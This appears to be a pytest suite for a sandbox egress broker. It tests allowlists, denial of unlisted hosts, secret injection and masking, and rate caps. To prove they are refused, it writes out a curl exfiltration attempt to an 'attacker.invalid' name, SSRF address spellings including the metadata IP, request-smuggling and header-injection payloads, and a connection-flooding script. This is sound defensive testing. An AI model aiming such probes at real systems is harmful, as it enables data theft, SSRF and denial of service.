"""Egress: deny by default, open per host through the broker, every attempt logged. Upstreams are local
servers on 127.0.0.1; made-up names (*.example.test) reach them through a counting test resolver."""

from __future__ import annotations

import http.server
import ipaddress
import json
import shutil
import socket
import ssl
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from ..tls_support import self_signed
from ..waiting import read_until, wait_until


class Upstream:
    """An HTTP server (and a TLS one for api.example.test) on 127.0.0.1, with a record of what arrived."""

    def __init__(self, tmp: Path) -> None:
        seen = self.seen = []  # type: list[tuple[str, str, int]]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                self._answer(0)

            def do_POST(self) -> None:  # noqa: N802
                received = len(self.rfile.read(int(self.headers.get("Content-Length", 0))))
                self._answer(received)

            def _answer(self, received: int) -> None:
                seen.append((self.command, self.path, received))
                body = f"upstream saw {self.path}\n".encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.http = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.tls = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.cert = tmp / "cert.pem"
        key = tmp / "key.pem"
        self_signed(self.cert, key, "api.example.test")
        ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        ctx.load_cert_chain(self.cert, key)
        # the handshake happens in the handler thread: a client that stalls it cannot block accept()
        self.tls.socket = ctx.wrap_socket(self.tls.socket, server_side=True, do_handshake_on_connect=False)
        self.port = self.http.server_address[1]
        self.tls_port = self.tls.server_address[1]
        for server in (self.http, self.tls):
            threading.Thread(target=server.serve_forever, daemon=True).start()

    def close(self) -> None:
        for server in (self.http, self.tls):
            server.shutdown()
            server.server_close()


@pytest.fixture
def upstream(tmp_path: Path) -> Iterator[Upstream]:
    server = Upstream(tmp_path)
    yield server
    server.close()


@pytest.fixture
def lookups(backend_manager) -> Iterator[list[str]]:  # type: ignore[no-untyped-def]
    """Every name the broker resolves; *.example.test resolves to 127.0.0.1, anything else to nothing."""
    asked: list[str] = []

    async def resolver(host: str, port: int) -> list[ipaddress.IPv4Address]:
        asked.append(host)
        return [ipaddress.IPv4Address("127.0.0.1")] if host.endswith(".example.test") else []

    previous, backend_manager.resolver = backend_manager.resolver, resolver
    yield asked
    backend_manager.resolver = previous


def allow(*rules: str, **extra: object) -> dict[str, object]:
    return {"network": {"mode": "allowlist", "allow": list(rules), "allow_private": ["127.0.0.1/32"], **extra}}


def py(sb, code: str) -> str:  # type: ignore[no-untyped-def]
    r = sb.commands.run(["python3", "-c", code])
    return r.stdout + r.stderr


NETWORK_OFF = "network is off for this sandbox (network.mode = none); network.mode = allowlist opens it"


def test_no_network_by_default(make_sandbox, upstream):
    sb = make_sandbox()
    assert not sb.files.exists("/run/stockade")  # no broker socket
    r = sb.commands.run(f"curl -sS --max-time 5 http://127.0.0.1:{upstream.port}/; echo rc=$?")
    assert "rc=0" not in r.stdout
    # the proxy ports answer locally: through them the host's upstream is not reached either
    r = sb.commands.run(f"curl -sS --max-time 5 --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{upstream.port}/")
    assert NETWORK_OFF in r.stdout
    r = sb.commands.run(f"curl -sS --max-time 5 --noproxy '' --socks5-hostname 127.0.0.1:1080 http://127.0.0.1:{upstream.port}/")
    assert r.exit_code != 0 and "SOCKS5" in r.stderr
    assert upstream.seen == []


def test_with_the_network_off_tools_say_so_at_once(make_sandbox):
    """pip, curl, git, Python and node clients get the reason and the policy field, not a name-lookup timeout."""
    sb = make_sandbox()
    def run(cmd: str) -> str:
        r = sb.commands.run(cmd, timeout=30)  # a hang guard: each of these answers in well under a second
        assert not r.timed_out, cmd
        return r.stdout + r.stderr
    assert NETWORK_OFF in run("curl -sS http://pkg.example.test/simple/")
    assert "response 403" in run("curl -sS https://pkg.example.test/")
    assert "response 403" in run("git clone -q https://git.example.test/x.git /tmp/x")
    for url in ("http://pkg.example.test/", "https://pkg.example.test/"):
        assert NETWORK_OFF in run(f"python3 -c \"import urllib.request; urllib.request.urlopen('{url}')\"")
    pip = "pip" if sb.files.exists("/home/user/.local/bin/pip") else ""  # the workspace venv's (environment.py)
    if pip:
        out = run(f"{pip} install --no-cache-dir --index-url https://pkg.example.test/simple nothing-here")
        assert NETWORK_OFF in out and "No matching distribution" in out
    if shutil.which("node"):
        fetch = "fetch('https://pkg.example.test/').catch(e => console.log(String(e.cause || e)))"
        assert NETWORK_OFF in run(f"node -e \"{fetch}\"")
    # the caller's own settings win over the defaults that make pip say it at once
    assert sb.commands.run("echo $PIP_RETRIES", envs={"PIP_RETRIES": "3"}).stdout == "3\n"


def test_the_network_off_answer_survives_hostile_clients(make_sandbox):
    """Clients that connect and send nothing, trickle bytes, flood or open hundreds of connections delay
    only themselves: the next request still gets the answer, and the agent still runs commands."""
    sb = make_sandbox()
    hostile = """
import socket, threading, time
held = []
for i in range(200):
    s = socket.socket(); s.connect(("127.0.0.1", 3128 if i % 2 else 1080)); held.append(s)
held[0].send(b"GET http://x/ HTTP/1.1\\r\\n")           # half a head
big = socket.socket(); big.connect(("127.0.0.1", 3128)); big.settimeout(5)
try: big.sendall(b"POST http://x/ HTTP/1.1\\r\\nContent-Length: 9999999\\r\\n\\r\\n" + b"x" * 200000)
except OSError: pass
print("opened", len(held), flush=True)
time.sleep(60)
"""
    sb.files.write("hostile.py", hostile)
    handle = sb.commands.run("python3 hostile.py", background=True)
    # the hostile clients are all in place (not merely started) before the next request is made
    read_until(handle, lambda: "opened 200" in handle.stdout, 30, "hostile.py to open its 200 connections")
    r = sb.commands.run("curl -sS --max-time 25 -x http://127.0.0.1:3128 http://pkg.example.test/", timeout=40)
    assert NETWORK_OFF in r.stdout, r.stderr
    assert sb.commands.run("true").exit_code == 0


def test_allowed_host_through_curl_python_and_socks(make_sandbox, upstream, lookups):
    sb = make_sandbox(**allow(f"api.example.test:{upstream.port}"))
    url = f"http://api.example.test:{upstream.port}"
    assert sb.commands.run(f"curl -sS {url}/curl").stdout == "upstream saw /curl\n"
    assert "upstream saw /py" in py(sb, f"import urllib.request; print(urllib.request.urlopen('{url}/py').read())")
    r = sb.commands.run(f"curl -sS --proxy socks5h://127.0.0.1:1080 {url}/socks")
    assert r.stdout == "upstream saw /socks\n"
    assert [s[1] for s in upstream.seen] == ["/curl", "/py", "/socks"]
    events = sb.network.events()
    assert [(e["protocol"], e["decision"], e["host"], e["address"]) for e in events] == [
        ("http", "allow", "api.example.test", "127.0.0.1"), ("http", "allow", "api.example.test", "127.0.0.1"),
        ("socks5", "allow", "api.example.test", "127.0.0.1")]
    assert events[0]["status"] == 200 and events[0]["bytes_in"] > 0 and events[0]["rule"].startswith("allow:")
    recorded = [e["data"] for e in sb.audit_log(type="network")]
    assert [e.get("path") for e in recorded] == ["/curl", "/py", "/socks"]  # SOCKS carried plain HTTP, read too
    assert [e["decision"] for e in recorded] == ["allow"] * 3


def test_https_through_connect_and_the_sni_check(make_sandbox, upstream, lookups):
    sb = make_sandbox(**allow(f"api.example.test:{upstream.tls_port}", f"other.example.test:{upstream.tls_port}"))
    sb.files.write("ca.pem", upstream.cert.read_text())
    ok = sb.commands.run(f"curl -sS --cacert ca.pem https://api.example.test:{upstream.tls_port}/tls")
    assert ok.stdout == "upstream saw /tls\n", ok.stderr
    # A client that CONNECTs to one allowed name but says another in its TLS handshake is refused.
    code = f"""
import socket, ssl
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT other.example.test:{upstream.tls_port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
assert s.recv(100).startswith(b"HTTP/1.1 200")
ctx = ssl.create_default_context(cafile="ca.pem"); ctx.check_hostname = False
try:
    ctx.wrap_socket(s, server_hostname="api.example.test").sendall(b"GET /smuggled HTTP/1.0\\r\\n\\r\\n")
    print("handshake completed")
except (ssl.SSLError, OSError) as e:
    print("refused", type(e).__name__)
"""
    assert py(sb, code).startswith("refused")
    assert "/smuggled" not in [s[1] for s in upstream.seen]
    mismatch = [e for e in sb.network.events() if e.get("rule") == "sni-mismatch"]
    assert mismatch and mismatch[0]["sni"] == "api.example.test" and mismatch[0]["host"] == "other.example.test"


NODE_FETCH = """
fetch(process.argv[2], {headers: process.argv[3] ? {"X-Key": process.argv[3]} : {}})
  .then(async (r) => console.log(r.status, (await r.text()).trim()))
  .catch((e) => console.log("failed:", String(e.cause && e.cause.message || e)));
"""


@pytest.mark.skipif(not shutil.which("node"), reason="node is not installed on this host")
def test_node_fetch_goes_through_the_broker(make_sandbox, upstream, lookups):
    sb = make_sandbox(**allow(f"api.example.test:{upstream.port}", f"api.example.test:{upstream.tls_port}"))
    sb.files.write("fetch.js", NODE_FETCH)
    sb.files.write("ca.pem", upstream.cert.read_text())
    node = ["node", "fetch.js"]
    r = sb.commands.run([*node, f"http://api.example.test:{upstream.port}/node-http"])
    assert r.stdout == "200 upstream saw /node-http\n", r.stdout + r.stderr
    r = sb.commands.run([*node, f"https://api.example.test:{upstream.tls_port}/node-tls"],
                        envs={"NODE_EXTRA_CA_CERTS": "/home/user/ca.pem"})
    assert r.stdout == "200 upstream saw /node-tls\n", r.stdout + r.stderr
    r = sb.commands.run([*node, "https://denied.example.test/"])
    assert r.stdout.startswith("failed: proxy refused denied.example.test:443") and "network.allow" in r.stdout
    events = sb.network.events()
    assert [(e["protocol"], e["decision"]) for e in events] == [("socks5", "allow"), ("connect", "allow"),
                                                                 ("connect", "deny")]
    assert [s[1] for s in upstream.seen] == ["/node-http", "/node-tls"]


def test_denied_names_get_a_readable_403_and_never_reach_the_resolver(make_sandbox, upstream, lookups):
    sb = make_sandbox(**allow(f"*.example.test:{upstream.port}", deny=["secret.example.test"]))
    exfil = "c2VjcmV0LWRhdGE.attacker.invalid"
    r = sb.commands.run(f"curl -sS -i http://{exfil}/")
    assert r.stdout.startswith("HTTP/1.1 403") and f"egress to {exfil.lower()}:80 denied" in r.stdout
    assert "network.allow" in r.stdout
    r = sb.commands.run(f"curl -sS http://secret.example.test:{upstream.port}/")
    assert "network.deny 'secret.example.test'" in r.stdout
    r = sb.commands.run(f"curl -sS --proxy socks5h://127.0.0.1:1080 http://{exfil}/; echo rc=$?")
    assert "rc=0" not in r.stdout
    assert exfil.lower() not in lookups and "secret.example.test" not in lookups
    assert upstream.seen == []


def test_private_addresses_are_refused_whatever_the_spelling(make_sandbox, upstream, lookups):
    sb = make_sandbox(network={"mode": "allowlist", "allow": ["*.example.test", "127.0.0.0/8"]})  # no allow_private
    r = sb.commands.run(f"curl -sS http://api.example.test:{upstream.port}/")
    assert "resolves to 127.0.0.1, a private/internal address" in r.stdout
    for spelling in ("127.0.0.1", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]"):
        # --noproxy '': NO_PROXY lists 127.0.0.1 (the sandbox's own loopback); force these through the broker
        r = sb.commands.run(f"curl -sS --max-time 5 --noproxy '' http://{spelling}:{upstream.port}/")
        assert "private/internal address" in r.stdout, (spelling, r.stdout, r.stderr)
    for blocked in ("169.254.169.254", "10.1.2.3", "100.64.0.1"):  # metadata, private, CGNAT: never contacted
        sb.network.update(allow=[f"{blocked}:80"])
        assert "private/internal" in sb.commands.run(f"curl -sS --max-time 5 http://{blocked}/").stdout
    assert upstream.seen == []


def test_direct_connections_dns_udp_and_raw_sockets_fail(make_sandbox, upstream):
    sb = make_sandbox(**allow("*.example.test"))
    code = f"""
import socket
out = []
for target in [("127.0.0.1", {upstream.port}), ("192.0.2.1", 80)]:
    s = socket.socket(); s.settimeout(3)
    try: s.connect(target); out.append("connected")
    except OSError: out.append("no")
try: socket.getaddrinfo("api.example.test", 80); out.append("resolved")
except OSError: out.append("no")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: u.sendto(b"x", ("192.0.2.1", 53)); out.append("sent")
except OSError: out.append("no")
try: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); out.append("raw")
except OSError: out.append("no")
print(" ".join(out))
"""
    assert py(sb, code).split() == ["no"] * 5
    assert upstream.seen == []


@pytest.mark.parametrize("request_bytes", [
    b"CONNECT api.example.test:80\r\nX-Injected: 1 HTTP/1.1\r\n\r\n",
    b"CONNECT user@api.example.test:80 HTTP/1.1\r\n\r\n",
    b"GET /relative HTTP/1.1\r\n\r\n",
    b"NONSENSE\r\n\r\n",
    b"GET http://api.example.test/ HTTP/1.1\r\n" + b"X-Long: " + b"a" * 100_000 + b"\r\n\r\n",
    b"GET http://api.example.test/ HTTP/1.1\r\n" + b"".join(b"H%d: v\r\n" % i for i in range(500)) + b"\r\n",
    b"\x00\xff\x16garbage\r\n\r\n",
])
def test_malformed_and_hostile_requests_are_refused(make_sandbox, upstream, lookups, request_bytes):
    sb = make_sandbox(**allow("*.example.test"))
    sb.files.write("req.bin", request_bytes)
    code = """
import socket
s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(10)
s.sendall(open("req.bin", "rb").read())
data = b""
try:
    while chunk := s.recv(4096): data += chunk
except OSError: pass
print(data.split(b"\\r\\n")[0].decode(errors="replace"))
"""
    first_line = py(sb, code).strip()
    assert not first_line.startswith("HTTP/1.1 200"), first_line
    assert upstream.seen == []
    assert sb.commands.run(f"curl -sS http://api.example.test:{upstream.port}/ok").stdout == "upstream saw /ok\n"


def test_connection_and_byte_caps(make_sandbox, upstream, lookups):
    sb = make_sandbox(**allow("*.example.test", max_connections=2, max_egress_bytes="64KiB"))
    code = """
import socket, time
held = []
for i in range(2):
    s = socket.create_connection(("127.0.0.1", 3128)); held.append(s)
    s.sendall(b"CONNECT api.example.test:%d HTTP/1.1\\r\\n\\r\\n" % PORT); s.recv(100)
third = socket.create_connection(("127.0.0.1", 3128)); third.settimeout(10)
third.sendall(b"CONNECT api.example.test:%d HTTP/1.1\\r\\n\\r\\n" % PORT)
print(third.recv(200).split(b"\\r\\n")[0].decode())
""".replace("PORT", str(upstream.port))
    assert py(sb, code).strip().startswith("HTTP/1.1 403 stockade: more than network.max_connections (2)")
    r = sb.commands.run(f"head -c 200000 /dev/zero > big; curl -sS --max-time 10 -X POST --data-binary @big "
                        f"http://api.example.test:{upstream.port}/upload; echo rc=$?")
    assert "rc=0" not in r.stdout
    assert all(received < 200000 for _, _, received in upstream.seen)  # the cap cut the upload
    assert any(e.get("reason") == "network.max_egress_bytes reached" for e in sb.network.events())


def test_update_narrows_and_widens_new_connections(make_sandbox, upstream, lookups):
    sb = make_sandbox(**allow(f"api.example.test:{upstream.port}"))
    url = f"http://api.example.test:{upstream.port}"
    assert sb.commands.run(f"curl -sS {url}/1").stdout == "upstream saw /1\n"
    sb.network.update(allow=[])
    assert "denied" in sb.commands.run(f"curl -sS {url}/2").stdout
    sb.network.update(allow=[f"*.example.test:{upstream.port}"])
    assert sb.commands.run(f"curl -sS http://b.example.test:{upstream.port}/3").stdout == "upstream saw /3\n"
    from stockade import PolicyError

    with pytest.raises(PolicyError, match="network.allow"):
        sb.network.update(allow=["not a host"])
    offline = make_sandbox()
    with pytest.raises(PolicyError, match="network.mode"):
        offline.network.update(mode="allowlist", allow=["api.example.test"])


def test_a_denied_sandbox_cannot_use_another_sandboxes_broker(make_sandbox, upstream, lookups):
    open_sb = make_sandbox(**allow(f"api.example.test:{upstream.port}"))
    closed = make_sandbox(**allow("nothing.example.test"))
    assert "denied" in closed.commands.run(f"curl -sS http://api.example.test:{upstream.port}/").stdout
    assert closed.commands.run("ls /run/stockade").stdout == "broker.sock\n"  # only its own socket
    assert open_sb.commands.run(f"curl -sS http://api.example.test:{upstream.port}/x").stdout.startswith("upstream")
    socket.gethostname()  # the host is untouched


SECRET = "sk-test-REAL-4c0ffee-value"


def with_secret(upstream: Upstream, **network: object) -> dict[str, object]:
    return {"network": {"mode": "allowlist", "allow": ["*.example.test"], "allow_private": ["127.0.0.1/32"],
                        "extra_ca_certs": str(upstream.cert), **network},
            "secrets": {"API_KEY": {"value_from": "env:STOCKADE_TEST_SECRET", "hosts": ["api.example.test"],
                                    "header": "Authorization", "format": "Bearer {secret}"}}}


@pytest.fixture
def secret_env(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("STOCKADE_TEST_SECRET", SECRET)
    return SECRET


class EchoUpstream(Upstream):
    """Answers with the Authorization and X-Key headers it received (a server that reflects credentials)."""

    def __init__(self, tmp: Path) -> None:
        super().__init__(tmp)
        self.headers: list[dict[str, str]] = []
        record = self.headers
        for server in (self.http, self.tls):
            base = server.RequestHandlerClass

            class Echo(base):  # type: ignore[misc, valid-type]
                def _answer(self, received: int) -> None:
                    record.append({k: v for k, v in self.headers.items()})
                    body = f"auth={self.headers.get('Authorization')} key={self.headers.get('X-Key')}\n".encode()
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)

            server.RequestHandlerClass = Echo


@pytest.fixture
def echo(tmp_path: Path) -> Iterator[EchoUpstream]:
    server = EchoUpstream(tmp_path)
    yield server
    server.close()


def test_secrets_are_injected_on_their_host_only_and_never_seen_inside(make_sandbox, echo, lookups, secret_env):
    sb = make_sandbox(**with_secret(echo))
    placeholder = sb.commands.run("printf %s $API_KEY").stdout
    assert placeholder.startswith("stockade-secret-api_key-") and SECRET not in placeholder
    seen = sb.commands.run(f"grep -c {SECRET} /proc/self/environ /proc/1/environ; true")
    # the agent's environment is not even readable (it is non-dumpable); the command's holds no secret
    assert seen.stdout == "/proc/self/environ:0\n" and "/proc/1/environ: Permission denied" in seen.stderr
    # the bound host: the value arrives, in the configured header and where the placeholder was sent
    r = sb.commands.run(f"curl -sS https://api.example.test:{echo.tls_port}/")
    assert r.exit_code == 0, (r.stderr, repr(sb.network.events()))
    r2 = sb.commands.run(f"curl -sS -H \"X-Key: $API_KEY\" https://api.example.test:{echo.tls_port}/")
    assert echo.headers[0]["Authorization"] == f"Bearer {SECRET}" and echo.headers[1]["X-Key"] == SECRET
    # ...but the upstream's echo of it comes back masked
    assert SECRET not in r.stdout + r2.stdout and "Bearer ****" in r.stdout and "key=****" in r2.stdout
    # another allowed host gets the placeholder unchanged, and the attempt is recorded
    r = sb.commands.run(f"curl -sS -H \"X-Key: $API_KEY\" http://other.example.test:{echo.port}/")
    assert f"key={placeholder}" in r.stdout and echo.headers[2]["X-Key"] == placeholder
    if shutil.which("node"):  # node's fetch is intercepted the same way (it trusts the sandbox's CA)
        sb.files.write("fetch.js", NODE_FETCH)
        r = sb.commands.run(["node", "fetch.js", f"https://api.example.test:{echo.tls_port}/", "$"])
        assert r.stdout.startswith("200 auth=Bearer ****"), r.stdout + r.stderr
        assert echo.headers[-1]["Authorization"] == f"Bearer {SECRET}"
    events = sb.network.events()
    assert events[0]["protocol"] == "connect-intercepted" and events[0]["secrets"] == ["API_KEY"]
    assert events[2]["exfiltration_blocked"] == ["API_KEY"]
    # the value is in no record the host keeps, nor in anything the sandbox returned
    recorded = sb.audit_log()
    assert any(e["type"] == "network.connection" for e in recorded)
    assert SECRET not in json.dumps(recorded) and SECRET not in json.dumps(events)
    assert SECRET not in json.dumps(sb.info().policy)


def test_intercepted_upstreams_are_verified(make_sandbox, echo, lookups, secret_env):
    policy = with_secret(echo)
    del policy["network"]["extra_ca_certs"]  # type: ignore[attr-defined]
    sb = make_sandbox(**policy)
    r = sb.commands.run(f"curl -sS https://api.example.test:{echo.tls_port}/; echo rc=$?")
    assert "rc=0" not in r.stdout
    assert echo.headers == []  # the untrusted upstream never saw the request, nor the secret


def test_a_missing_secret_is_a_policy_error(make_sandbox, echo, monkeypatch):
    from stockade import PolicyError

    monkeypatch.delenv("STOCKADE_TEST_SECRET", raising=False)
    with pytest.raises(PolicyError, match=r"secrets.API_KEY.value_from: environment variable"):
        make_sandbox(**with_secret(echo))


class StaticHTTPS:
    """Files from a directory over HTTPS on 127.0.0.1 (a package index, a dumb-protocol git remote)."""

    def __init__(self, root: Path, cert: Path, key: Path) -> None:
        handler = type("Static", (http.server.SimpleHTTPRequestHandler,),
                       {"log_message": lambda *a: None,
                        "__init__": lambda self, *a, **k: http.server.SimpleHTTPRequestHandler.__init__(
                            self, *a, directory=str(root), **k)})
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        ctx.load_cert_chain(cert, key)
        self.server.socket = ctx.wrap_socket(self.server.socket, server_side=True, do_handshake_on_connect=False)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _wheel(path: Path, name: str, version: str) -> Path:
    """A minimal pure-Python wheel, built by hand (no network, no build backend)."""
    import base64
    import hashlib
    import zipfile

    files = {f"{name}/__init__.py": f"VERSION = {version!r}\n",
             f"{name}-{version}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
             f"{name}-{version}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
                                                  "Tag: py3-none-any\n"}
    def digest(content: str) -> str:
        return base64.urlsafe_b64encode(hashlib.sha256(content.encode()).digest()).rstrip(b"=").decode()

    record = "".join(f"{p},sha256={digest(c)},{len(c)}\n" for p, c in files.items())
    record += f"{name}-{version}.dist-info/RECORD,,\n"
    whl = path / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(whl, "w") as z:
        for p, c in files.items():
            z.writestr(p, c)
        z.writestr(f"{name}-{version}.dist-info/RECORD", record)
    return whl


def test_pip_installs_from_an_allowed_index_and_git_clones_over_https(make_sandbox, tmp_path, lookups):
    import subprocess

    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    self_signed(cert, key, "pkgs.example.test")
    root = tmp_path / "www"
    (root / "simple" / "stockade-demo").mkdir(parents=True)
    whl = _wheel(root / "simple" / "stockade-demo", "stockade_demo", "1.0")
    (root / "simple" / "stockade-demo" / "index.html").write_text(f'<a href="{whl.name}">{whl.name}</a>\n')
    repo = tmp_path / "work"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "README").write_text("cloned through the broker\n")
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.test"]
    subprocess.run([*git, "add", "README"], check=True)
    subprocess.run([*git, "commit", "-qm", "init"], check=True)
    subprocess.run(["git", "clone", "-q", "--bare", str(repo), str(root / "repo.git")], check=True)
    subprocess.run(["git", "-C", str(root / "repo.git"), "update-server-info"], check=True)
    server = StaticHTTPS(root, cert, key)
    try:
        sb = make_sandbox(network={"mode": "allowlist", "allow": [f"pkgs.example.test:{server.port}"],
                                   "allow_private": ["127.0.0.1/32"]})
        sb.files.write("ca.pem", cert.read_text())
        url = f"https://pkgs.example.test:{server.port}"
        r = sb.commands.run(f"python3 -m pip install -q --cert ca.pem --index-url {url}/simple stockade-demo && "
                            "python3 -c 'import stockade_demo; print(stockade_demo.VERSION)'", timeout=60)
        assert r.stdout.strip().endswith("1.0"), r.stderr
        r = sb.commands.run(f"git -c http.sslCAInfo=ca.pem clone -q {url}/repo.git clone && cat clone/README",
                            timeout=60)
        assert r.stdout == "cloned through the broker\n", r.stderr
        hosts = {e["host"] for e in sb.network.events() if e["decision"] == "allow"}
        assert hosts == {"pkgs.example.test"}
    finally:
        server.close()


@pytest.fixture
def package_index(tmp_path: Path) -> Iterator[tuple[StaticHTTPS, Path]]:
    """A package index over HTTPS (pkgs.example.test through the broker) with three small projects:
    stockade-demo, stockadehello (a console script stockadehello-hello) and stockademagic."""
    from ..wheels import make_wheel

    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    self_signed(cert, key, "pkgs.example.test")
    root = tmp_path / "www"
    wheels = {"stockade-demo": lambda d: _wheel(d, "stockade_demo", "1.0"),
              "stockadehello": lambda d: make_wheel(d, "stockadehello", "1.0",
                                                    "def main():\n    print('hello from a pip-installed script')\n",
                                                    script="main"),
              "stockademagic": lambda d: make_wheel(d, "stockademagic", "1.0", "VALUE = 'installed by %pip'\n")}
    for project, build in wheels.items():
        (root / "simple" / project).mkdir(parents=True)
        whl = build(root / "simple" / project)
        (root / "simple" / project / "index.html").write_text(f'<a href="{whl.name}">{whl.name}</a>\n')
    server = StaticHTTPS(root, cert, key)
    yield server, cert
    server.close()


def test_pip_install_is_seen_by_new_processes_and_running_code_contexts(make_sandbox, package_index, lookups):
    """Plain `pip install` (the shell's, `!pip` and `%pip` in run_code) writes to the sandbox's workspace
    venv: a new python3, the context that ran it and a context started before it import the package, and
    its console script is on PATH. The shared environment stays importable."""
    server, cert = package_index
    url = f"https://pkgs.example.test:{server.port}/simple"
    sb = make_sandbox(network={"mode": "allowlist", "allow": [f"pkgs.example.test:{server.port}"],
                               "allow_private": ["127.0.0.1/32"]},
                      envs={"PIP_INDEX_URL": url, "PIP_CERT": "/home/user/ca.pem"})
    sb.files.write("ca.pem", cert.read_text())
    if sb.commands.run("python3 -c 'import IPython'").exit_code != 0:
        pytest.skip("the sandbox environment is not built (stockade env build): run_code has no IPython")
    before = sb.create_code_context()
    ex = sb.run_code("import importlib.util\nprint(importlib.util.find_spec('stockade_demo'))", context=before)
    assert ex.error is None and "".join(ex.logs.stdout) == "None\n", ex
    r = sb.commands.run("pip install stockade-demo stockadehello", timeout=60)
    assert r.exit_code == 0, r.stdout + r.stderr
    assert "Read-only file system" not in r.stdout + r.stderr
    r = sb.commands.run("python3 -c 'import stockade_demo, numpy; print(stockade_demo.__file__, stockade_demo.VERSION)'"
                        "; command -v stockadehello-hello; stockadehello-hello")
    where, script, said = r.stdout.splitlines()
    assert where.startswith("/home/user/.local/lib/python3.") and where.endswith(
        "/site-packages/stockade_demo/__init__.py 1.0"), r.stderr
    assert (script, said) == ("/home/user/.local/bin/stockadehello-hello", "hello from a pip-installed script")
    ex = sb.run_code("import stockade_demo, stockadehello\nprint(stockade_demo.VERSION)", context=before)
    assert ex.error is None and "".join(ex.logs.stdout) == "1.0\n", ex  # the same interpreter, not restarted
    ex = sb.run_code("%pip install -q stockademagic\nimport stockademagic\nprint(stockademagic.VALUE)")
    assert ex.error is None and "".join(ex.logs.stdout).endswith("\ninstalled by %pip\n"), ex
    ex = sb.run_code("!command -v pip\n!pip install stockademagic\nimport sys, stockademagic\nprint(sys.executable)",
                     context=before)
    out = "".join(ex.logs.stdout).replace("\r\n", "\n")  # `!` runs on a terminal
    assert ex.error is None and out.startswith("/home/user/.local/bin/pip\n"), ex
    # (pip names the place relative to the current directory, /home/user)
    assert "Requirement already satisfied: stockademagic in ./.local/lib/python3." in out, ex
    assert out.endswith("\n/home/user/.local/bin/python3\n"), ex
    assert sb.commands.run("python3 -c 'import stockademagic'").exit_code == 0


def test_host_groups_from_the_hosts_configuration(make_sandbox, upstream, lookups, tmp_path, backend_manager):
    from stockade import PolicyError
    from stockade.config import _host_groups

    groups_file = tmp_path / "groups.toml"
    groups_file.write_text(f'[groups]\napi-hosts = ["api.example.test:{upstream.port}"]\n')

    backend_manager.host_groups = _host_groups(str(groups_file))
    try:
        sb = make_sandbox(network={"mode": "allowlist", "allow": ["@api-hosts"], "allow_private": ["127.0.0.1/32"]})
        assert sb.commands.run(f"curl -sS http://api.example.test:{upstream.port}/g").stdout == "upstream saw /g\n"
        with pytest.raises(PolicyError, match="host group '@nope' is not defined"):
            make_sandbox(network={"mode": "allowlist", "allow": ["@nope"]})
    finally:
        backend_manager.host_groups = {}


def test_a_slow_client_cannot_starve_another_sandbox(make_sandbox, upstream, lookups):
    greedy = make_sandbox(**allow("*.example.test", max_connections=4))
    polite = make_sandbox(**allow(f"api.example.test:{upstream.port}"))
    # four connections that never finish their request line, held open in the background
    code = "import socket, time\nheld = [socket.create_connection(('127.0.0.1', 3128)) for _ in range(4)]\n" \
           "[s.sendall(b'GET http://api.example.test/ HT') for s in held]\nprint('held', flush=True)\n" \
           "time.sleep(30)"
    handle = greedy.commands.run(["python3", "-c", code], background=True)
    try:
        read_until(handle, lambda: "held" in handle.stdout, 30, "the four slow connections to be open")
        # the broker counts a connection once its first byte arrives, just after the client's send returns
        wait_until(lambda: "network.max_connections" in greedy.commands.run(
            f"curl -sS http://api.example.test:{upstream.port}/").stdout, 10,
            "greedy's own network.max_connections cap to be full")
        assert polite.commands.run(f"curl -sS http://api.example.test:{upstream.port}/p").stdout == \
            "upstream saw /p\n"
    finally:
        handle.kill()
